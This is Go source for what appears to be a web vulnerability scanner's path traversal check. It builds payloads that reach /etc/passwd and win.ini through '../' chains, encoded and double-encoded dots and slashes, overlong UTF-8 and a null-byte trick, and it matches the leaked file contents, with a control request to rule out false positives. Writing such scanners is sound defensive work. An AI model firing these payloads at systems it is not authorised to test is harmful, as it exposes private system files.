package inject

import (
	"context"
	"fmt"
	"path"
	"regexp"
	"strings"

	"github.com/fastness/fastness/scan/finding"
	"github.com/fastness/fastness/scan/internal/check"
	"github.com/fastness/fastness/scan/internal/probe"
	"github.com/fastness/fastness/scan/wire"
)

// What files hold that every machine has, as it is and in base64.
var (
	ofPasswd = regexp.MustCompile(`root:[^:\n]{0,120}:0:0:[^\n]{0,200}:|cm9vdDp4OjA6MD|cm9vdDoqOjA6MD`)
	ofWinIni = regexp.MustCompile(`(?i); for 16-bit app support|\[fonts\]\s*(\\r|\\n|\r|\n)`)
)

// knownFile returns what an answer holds of a file that every machine has, or "".
func knownFile(ex *wire.Exchange) string {
	for _, form := range []*regexp.Regexp{ofPasswd, ofWinIni} {
		if at := form.FindString(ex.Text()); at != "" {
			return at
		}
	}
	return ""
}

// fileLike reports whether a place takes the name of a file.
func fileLike(s spot) bool {
	text := s.text()
	ext := path.Ext(text)
	if len(ext) > 1 && len(ext) <= 6 && !strings.ContainsAny(text, "@ ") && strings.Trim(ext[1:], "0123456789") != "" {
		return true
	}
	if hasPart(s.point.Last(), "file", "filename", "path", "filepath", "doc", "document", "template", "page", "folder", "dir", "directory", "download", "view", "lang", "locale",
		"include", "attachment", "log", "report", "invoice", "image", "img", "picture", "photo", "theme", "style", "layout", "module", "config", "asset", "resource", "key", "name", "root") {
		return true
	}
	if s.point.In != "path" {
		return false
	}
	return hasPart(s.op.Path, "files", "download", "downloads", "static", "assets", "media", "images", "uploads", "docs", "documents", "attachments", "export", "exports", "backup", "public", "content", "avatars", "pictures")
}

// traversal asks for a file outside of the folder that names are meant for.
func traversal(ctx context.Context, t *probe.Target, s spot) (claim check.Claim, found bool) {
	if !texts(s) && s.point.In != "path" {
		return claim, false
	}
	values := outside(s)
	if !fileLike(s) {
		values = values[:1]
	}
	for _, write := range values {
		value := write("etc/passwd", "windows/win.ini")
		ex := s.with(ctx, t, value)
		words := knownFile(ex)
		if words == "" {
			continue
		}
		bogus := write("etc/"+t.Marker(), "windows/"+t.Marker())
		control := s.with(ctx, t, bogus)
		if knownFile(control) != "" || knownFile(s.with(ctx, t, value)) == "" {
			continue
		}
		return check.Claim{
			Says:     fmt.Sprintf("%q in %s gives a file of the machine: %q", probe.Text(value), s.point, clip(words)),
			Control:  "the same path to a file that does not exist gives nothing of the kind",
			Evidence: []finding.Evidence{evidence("the file", ex), evidence("a file that does not exist", control)},
		}, true
	}
	return claim, false
}

// outside returns ways to write the path of a file, of Unix and of Windows.
func outside(s spot) []func(unix, windows string) any {
	up := strings.Repeat("../", 10)
	base := s.text()
	escape := func(text, dot, slash string) string {
		return strings.NewReplacer("..", dot+dot, "/", slash).Replace(text)
	}
	ways := []func(unix, windows string) any{
		func(unix, _ string) any { return up + unix },
		func(unix, _ string) any { return "/" + unix },
		func(unix, _ string) any { return "file:///" + unix },
		func(unix, _ string) any { return strings.Repeat("....//", 10) + unix },
		func(_, windows string) any { return strings.ReplaceAll(up+windows, "/", `\`) },
		func(_, windows string) any { return `C:\` + strings.ReplaceAll(windows, "/", `\`) },
		func(unix, _ string) any { return up + unix + "\x00" + path.Ext(base) },
		func(unix, _ string) any { return path.Dir(base) + "/" + up + unix },
		func(unix, _ string) any { return base + "/" + up + unix },
	}
	if s.point.In == "path" || s.point.In == "query" {
		ways = append(ways,
			func(unix, _ string) any { return probe.Raw(escape(up+unix, "%252e", "%252f")) },
			func(unix, _ string) any { return probe.Raw(escape(up+unix, "%2e", "%2f")) },
			func(unix, _ string) any { return probe.Raw(escape(up+unix, "%c0%ae", "%c0%af")) },
			func(unix, _ string) any { return probe.Raw(up + unix) },
		)
	}
	return ways
}
